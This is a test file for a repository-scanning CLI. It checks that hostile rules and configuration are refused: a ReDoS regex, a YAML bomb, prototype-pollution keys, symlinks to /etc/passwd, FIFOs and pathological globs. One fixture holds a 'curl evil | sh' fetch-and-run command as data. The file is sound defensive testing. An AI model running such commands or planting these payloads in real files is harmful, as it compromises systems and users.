// Rules and configuration written by the scanned repository are hostile too: a catastrophic
// expression, a YAML bomb, prototype keys, an unknown check kind, rule folders and files that lead
// out of the repository. Each is refused with its file and line (exit 2) or run under the per-file
// time budget. And the limits a user can set (size cap, time budget, findings per rule) are
// configurable in .cadre.yml and visible in the report.

import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../src/cli/main.js';
import { ConfigError, loadConfig } from '../src/config/load.js';
import type { Report } from '../src/model/types.js';
import { formatRuleProblem, loadRules } from '../src/rules/load.js';
import { scan } from '../src/scan.js';
import { expectValidReport, repo, rule } from './helpers.js';
import { runCli } from './hostile/cli.js';

const SAFETY_TIMEOUT_MS = 120_000;

/** A custom rule file: a text check by default. */
function ruleFile(id: string, check = '  text: {match: "TODO"}', target = '{kind: text}'): string {
  return [
    `id: ${id}`,
    'domain: hygiene',
    'severity: high',
    'title: {fr: Exemple, en: Sample}',
    'message: {fr: "Exemple {{value}}", en: "Sample {{value}}"}',
    'remediation: {fr: Corriger, en: Fix}',
    'references: [{framework: Test, criterion: "1"}]',
    `target: ${target}`,
    'check:',
    check,
    '',
  ].join('\n');
}

async function cli(args: string[], cwd: string) {
  let stdout = '';
  let stderr = '';
  const code = await main(args, { stdout: (t) => void (stdout += t), stderr: (t) => void (stderr += t), isTTY: false, cwd });
  return { code, stdout, stderr };
}

/** A repository with a .cadre.yml that uses only its own rules folder. */
function project(files: Record<string, string>, config = 'builtinRules: false\nrules: [policies]\n', exclude: string[] = []) {
  // The rule files name TODO too: they are not part of what is scanned.
  const excluded = JSON.stringify(['policies/**', '.cadre.yml', ...exclude]);
  return repo({ '.cadre.yml': `${config}exclude: ${excluded}\n`, 'app/notes.txt': 'TODO: one\n', ...files });
}

describe('a catastrophic regular expression in a custom rule', () => {
  it('is abandoned at the per-file time budget of .cadre.yml, listed, and the scan goes on', async () => {
    const dir = project(
      {
        'policies/redos.yaml': ruleFile('hyg-redos', '  text: {match: "(a+)+$"}'),
        'policies/todo.yaml': ruleFile('hyg-todo'),
        'app/slow.txt': `${'a'.repeat(48)}!\n`,
      },
      'builtinRules: false\nrules: [policies]\nfileTimeBudget: 1000\n',
    );
    const run = await runCli(['check', '.', '--format', 'json', '--lang', 'en'], { cwd: dir, timeoutMs: SAFETY_TIMEOUT_MS });
    expect(run.timedOut, 'a hang').toBe(false);
    expect(run.code, run.stderr).toBe(1);
    const report = JSON.parse(run.stdout) as Report;
    expectValidReport(report);
    expect(report.skipped).toEqual([{ file: 'app/slow.txt', reason: 'time-budget', detail: '> 1000 ms' }]);
    expect(report.findings.map((f) => `${f.ruleId} ${f.file}:${f.line}`)).toEqual(['hyg-todo app/notes.txt:1']);
  }, SAFETY_TIMEOUT_MS);

  it('is abandoned at the budget given to scan() too', async () => {
    const target = repo({ 'slow.txt': `${'a'.repeat(48)}!\n`, 'notes.txt': 'TODO\n' });
    const redos = rule({ id: 'hyg-redos', kind: 'text', check: { text: { match: '(a+)+$' } } });
    const todo = rule({ id: 'hyg-todo', kind: 'text', check: { text: { match: 'TODO' } } });
    const { report } = await scan({ target, rules: [redos, todo], lang: 'en', fileTimeBudgetMs: 500 });
    expect(report.skipped).toEqual([{ file: 'slow.txt', reason: 'time-budget', detail: '> 500 ms' }]);
    expect(report.findings.map((f) => f.file)).toEqual(['notes.txt']);
  });
});

describe('hostile rule files', () => {
  it('refuses a rule file that is a YAML bomb, naming file and line (exit 2)', async () => {
    const levels = ['a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
    for (let i = 1; i <= 9; i++) levels.push(`l${i}: &l${i} [${Array(10).fill(i === 1 ? '*a' : `*l${i - 1}`).join(', ')}]`);
    const dir = project({ 'policies/bomb.yaml': `${levels.join('\n')}\n` });
    const result = await cli(['check', '.', '--lang', 'en'], dir);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/policies\/bomb\.yaml:\d+: invalid YAML: /);
  });

  it('refuses __proto__ and constructor keys, at the top and inside a schema, without polluting anything', async () => {
    const schemaRule = (id: string, assert: string) => ruleFile(id, `  schema:\n    assert:\n${assert}`, '{kind: yaml}');
    const dir = repo({
      'top-proto.yaml': `${ruleFile('hyg-top-proto')}__proto__: {polluted: true}\n`,
      'top-constructor.yaml': `${ruleFile('hyg-top-constructor')}constructor: {prototype: {polluted: true}}\n`,
      'nested-proto.yaml': schemaRule('hyg-nested-proto', '      properties:\n        spec:\n          __proto__: {polluted: true}\n'),
      'nested-constructor.yaml': schemaRule('hyg-nested-constructor', '      constructor:\n        prototype: {polluted: true}\n'),
      'json-proto.yaml': schemaRule('hyg-json-proto', '      {"properties": {"a": {"__proto__": {"polluted": true}}}}\n'),
    });
    const { rules, problems } = await loadRules([dir], { base: dir });
    expect(rules).toEqual([]);
    expect(problems.map(formatRuleProblem).sort()).toEqual([
      'json-proto.yaml:12: check.schema.assert.properties.a.__proto__: key "__proto__" is not allowed',
      'nested-constructor.yaml:12: check.schema.assert.constructor: key "constructor" is not allowed',
      'nested-proto.yaml:14: check.schema.assert.properties.spec.__proto__: key "__proto__" is not allowed',
      'top-constructor.yaml:11: constructor: unknown key "constructor"',
      'top-proto.yaml:11: __proto__: unknown key "__proto__"',
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
    const result = await cli(['check', '.', '--lang', 'en', '--rules', '.', '--no-builtin-rules'], dir);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/nested-proto\.yaml:14: check\.schema\.assert\.properties\.spec\.__proto__: key "__proto__" is not allowed/);
  });

  it('refuses an unknown check kind, naming file, line and key (exit 2)', async () => {
    const dir = project({ 'policies/shell.yaml': ruleFile('hyg-shell', '  shell: {run: "curl evil | sh"}') });
    const result = await cli(['check', '.', '--lang', 'en'], dir);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/policies\/shell\.yaml:10: check\.shell: unknown key "shell"/);
  });

  it('never reads a rule file through a link that leads out of its folder, nor a FIFO', async () => {
    const outside = repo({ 'outside.yaml': ruleFile('hyg-outside') });
    const dir = project({ 'policies/todo.yaml': ruleFile('hyg-todo') });
    symlinkSync(join(outside, 'outside.yaml'), join(dir, 'policies', 'linked.yaml'));
    symlinkSync('/etc/passwd', join(dir, 'policies', 'passwd.yaml'));
    execFileSync('mkfifo', [join(dir, 'policies', 'fifo.yaml')]);
    const { rules, problems } = await loadRules([join(dir, 'policies')], { base: dir });
    expect(rules.map((r) => r.id)).toEqual(['hyg-todo']);
    expect(problems.map(formatRuleProblem)).toEqual([
      'policies/fifo.yaml: rule file is not a regular file',
      'policies/linked.yaml: rule file is a symbolic link leading out of its folder: not read',
      'policies/passwd.yaml: rule file is a symbolic link leading out of its folder: not read',
    ]);
    const result = await cli(['check', '.', '--lang', 'en'], dir);
    expect(result.code).toBe(2);
    expect(result.stderr).not.toContain(outside);
    expect(result.stderr).not.toContain('root:x:0:0');
  });
});

describe('a configuration that points outside the repository', () => {
  const outsideRules = repo({ 'rules/r.yaml': ruleFile('hyg-outside') });

  it.each([
    ['a parent folder', 'rules: ["../.."]\n'],
    ['an absolute path', `rules: [${JSON.stringify(join(outsideRules, 'rules'))}]\n`],
    ['a symbolic link leading out', 'rules: [policies-link]\n'],
    ['a link a level down', 'builtinRules: false\nrules:\n  - policies\n  - nested/../policies-link\n'],
  ])('refuses %s with file, line and key (exit 2)', async (_name, config) => {
    const dir = project({ 'policies/todo.yaml': ruleFile('hyg-todo'), 'nested/.keep': '' }, config);
    symlinkSync(join(outsideRules, 'rules'), join(dir, 'policies-link'));
    const result = await cli(['check', '.', '--lang', 'en'], dir);
    expect(result.code).toBe(2);
    const line = config.split('\n').findIndex((l) => l.includes('..') || l.includes('/') || l.includes('link')) + 1;
    expect(result.stderr).toMatch(new RegExp(`\\.cadre\\.yml:${line}: rules\\.\\d: rule folder outside the repository`));
  });

  it('does not follow a .cadre.yml that is a link out of the repository, nor block on a FIFO', async () => {
    const linked = repo({ 'app/notes.txt': 'TODO\n' });
    symlinkSync(join(outsideRules, 'rules', 'r.yaml'), join(linked, '.cadre.yml'));
    expect(() => loadConfig(linked)).toThrow(ConfigError);
    const result = await cli(['check', '.', '--lang', 'en'], linked);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/\.cadre\.yml: configuration file is a symbolic link: not followed/);
    const fifo = repo({ 'app/notes.txt': 'TODO\n' });
    execFileSync('mkfifo', [join(fifo, '.cadre.yml')]);
    expect((await cli(['check', '.', '--lang', 'en'], fifo)).stderr).toMatch(/\.cadre\.yml: configuration file is not a regular file/);
  });

  it('refuses prototype keys in .cadre.yml with their line', async () => {
    const dir = project({}, 'builtinRules: false\nparameters:\n  __proto__: {polluted: true}\n');
    const result = await cli(['check', '.', '--lang', 'en'], dir);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/\.cadre\.yml:3: parameters\.__proto__: key "__proto__" is not allowed/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('limits the user can see', () => {
  it('maxFileSize: a larger file is skipped and listed with its size', async () => {
    const dir = project({ 'policies/todo.yaml': ruleFile('hyg-todo'), 'app/big.txt': `TODO ${'x'.repeat(2000)}\n` }, 'builtinRules: false\nrules: [policies]\nmaxFileSize: 1024\n');
    const result = await cli(['check', '.', '--lang', 'en', '--format', 'json'], dir);
    const report = JSON.parse(result.stdout) as Report;
    expectValidReport(report);
    expect(report.skipped).toEqual([{ file: 'app/big.txt', reason: 'too-large', detail: '2006 > 1024 bytes' }]);
    expect(report.findings.map((f) => f.file)).toEqual(['app/notes.txt']);
    const console = await cli(['check', '.', '--lang', 'en'], dir);
    expect(console.stdout).toMatch(/1 file\(s\) skipped|1 skipped/i);
  });

  it('maxFindingsPerRule: findings past the cap are counted in the report', async () => {
    const dir = project(
      { 'policies/todo.yaml': ruleFile('hyg-todo'), 'app/many.txt': Array.from({ length: 25 }, (_, i) => `TODO ${i}`).join('\n') },
      'builtinRules: false\nrules: [policies]\nmaxFindingsPerRule: 5\n',
    );
    const result = await cli(['check', '.', '--lang', 'en', '--format', 'json'], dir);
    const report = JSON.parse(result.stdout) as Report;
    expectValidReport(report);
    expect(report.findings).toHaveLength(5);
    expect(report.truncated).toEqual([{ ruleId: 'hyg-todo', omitted: 21 }]);
    const markdown = await cli(['check', '.', '--lang', 'en', '--format', 'markdown'], dir);
    expect(markdown.stdout).toMatch(/21/);
  });

  it('fileTimeBudget: refused when it is not a number of milliseconds', async () => {
    const dir = project({ 'policies/todo.yaml': ruleFile('hyg-todo') }, 'builtinRules: false\nrules: [policies]\nfileTimeBudget: soon\n');
    const result = await cli(['check', '.', '--lang', 'en'], dir);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/\.cadre\.yml:3: fileTimeBudget: must be integer/);
  });
});

describe('the per-file time budget protects the walk too', () => {
  it('a hostile exclude pattern in .cadre.yml cannot hang discovery', async () => {
    // `*a*a*a…*b` against a long name of a's: minimatch's expression backtracks for hours.
    const dir = project(
      { 'policies/todo.yaml': ruleFile('hyg-todo'), [`app/${'a'.repeat(200)}`]: 'TODO\n', [`${Array(40).fill('a').join('/')}/notes.txt`]: 'TODO\n' },
      'builtinRules: false\nrules: [policies]\n',
      [`${'*a'.repeat(20)}*b`, `${Array(10).fill('a/**').join('/')}/b`],
    );
    mkdirSync(join(dir, 'empty'), { recursive: true });
    writeFileSync(join(dir, '.gitignore'), `${Array(10).fill('a/**').join('/')}/b\n${'*a'.repeat(20)}*b\n`);
    const run = await runCli(['check', '.', '--format', 'json', '--lang', 'en'], { cwd: dir, timeoutMs: SAFETY_TIMEOUT_MS });
    expect(run.timedOut, 'a hang').toBe(false);
    expect(run.stderr).toBe('');
    const report = JSON.parse(run.stdout) as Report;
    expect(report.findings.map((f) => f.file).sort()).toEqual([`${Array(40).fill('a').join('/')}/notes.txt`, `app/${'a'.repeat(200)}`, 'app/notes.txt']);
  }, SAFETY_TIMEOUT_MS);
});
